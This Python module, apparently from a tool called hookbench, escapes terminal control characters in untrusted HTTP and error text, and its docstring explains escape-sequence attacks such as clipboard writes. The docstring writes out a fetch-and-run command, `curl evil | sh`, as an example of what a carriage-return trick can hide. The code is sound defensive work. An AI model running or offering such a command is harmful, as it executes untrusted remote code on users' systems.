r"""Text from outside made safe to show on a terminal.

Response bodies, header values, reason phrases, JSON keys, history records and the error
messages that quote them come from third parties. Written to a terminal as they are, their
control characters are obeyed: `ESC ] 52 ; c ; … BEL` writes the user's clipboard (over SSH,
the local one), `ESC ] 0 ; … BEL` sets the window title, `ESC [ 2 J` clears the screen. So
every place that shows such text shows `safe_text(text)` instead, and the app styles what
`safe_spans` marks as escapes (dim).

Which characters: C0 controls (U+0000–U+001F) except newline and tab, DEL (U+007F) and C1
controls (U+0080–U+009F; UTF-8 terminals such as xterm obey U+009B as CSI). Each becomes
`\u001b` — four hex digits, the form JSON, TOML and dot paths read back, so what the screen
shows can be pasted into any of them and means the same character.

Carriage return: a lone `\r` moves the cursor to the start of the line, and what follows
overwrites what came before — a body can hide `curl evil | sh` behind `ls`. It is escaped
everywhere except as half of a `\r\n` line ending in multi-line text. In single-line places
(a tree label, a table cell, the status line) newline and `\r` are escaped too, so one value
cannot break or overwrite the line it is shown in; tab stays (it moves the cursor forward only).
"""

from __future__ import annotations

import json
import re
from functools import lru_cache
from typing import Any, Final

__all__ = ["CONTROL_CHARACTERS", "escape_control", "safe_json", "safe_message", "safe_spans", "safe_text"]

CONTROL_CHARACTERS: Final = "\x00-\x1f\x7f-\x9f"
"""A regex character-class body: C0, DEL and C1 (what dot paths always escape)."""

# Multi-line text keeps tab, newline and the CR of CRLF; single-line text keeps only tab.
_UNSAFE_MULTI_LINE: Final = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]|\r(?!\n)")
_UNSAFE_SINGLE_LINE: Final = re.compile("[\x00-\x08\x0a-\x1f\x7f-\x9f]")


@lru_cache(maxsize=64)
def escape_control(char: str) -> str:
    """The visible form of one control character: `\\u001b`."""
    return f"\\u{ord(char):04x}"


def _escape(match: re.Match[str]) -> str:
    return escape_control(match.group())


def _pattern(single_line: bool) -> re.Pattern[str]:
    return _UNSAFE_SINGLE_LINE if single_line else _UNSAFE_MULTI_LINE


def safe_text(text: str, *, single_line: bool = False) -> str:
    """`text` with every control character a terminal could obey written as `\\u001b`.

    `single_line=True` for places that show one line: newline and CR are escaped too.
    """
    pattern = _pattern(single_line)
    if pattern.search(text) is None:
        return text
    return pattern.sub(_escape, text)


# `\x1b` as Python's repr() writes it (an even run of backslashes before it is text, not an escape).
_REPR_ESCAPE: Final = re.compile(r"(?<!\\)((?:\\\\)*)\\x([0-9a-f]{2})")


def safe_message(text: str, *, single_line: bool = False) -> str:
    """An error or warning message made safe, its quoted values in the same notation.

    Messages quote values with repr(), which writes a control character as `\\x1b`; the rest
    of hookbench (the screen, `--json`, dot paths, the README) writes `\\u001b`.
    """
    unified = _REPR_ESCAPE.sub(lambda match: f"{match.group(1)}\\u00{match.group(2)}", text)
    return safe_text(unified, single_line=single_line)


def safe_json(value: Any, *, indent: int | None = None) -> str:
    """`json.dumps(value, ensure_ascii=False)` safe to print, and still exact JSON.

    JSON escapes C0 itself; DEL and C1 are written `\\u007f`, which JSON reads back as the
    same character. Used for `--json` output and for values shown as JSON.
    """
    return safe_text(json.dumps(value, ensure_ascii=False, indent=indent))


def safe_spans(text: str, *, single_line: bool = False) -> list[tuple[str, bool]]:
    """`safe_text` cut into `(piece, is_escape)` pieces, so a screen can style the escapes.

    Joining the pieces gives `safe_text(text, single_line=...)`.
    """
    spans: list[tuple[str, bool]] = []
    start = 0
    for match in _pattern(single_line).finditer(text):
        if match.start() > start:
            spans.append((text[start : match.start()], False))
        spans.append((escape_control(match.group()), True))
        start = match.end()
    if start < len(text) or not spans:
        spans.append((text[start:], False))
    return spans
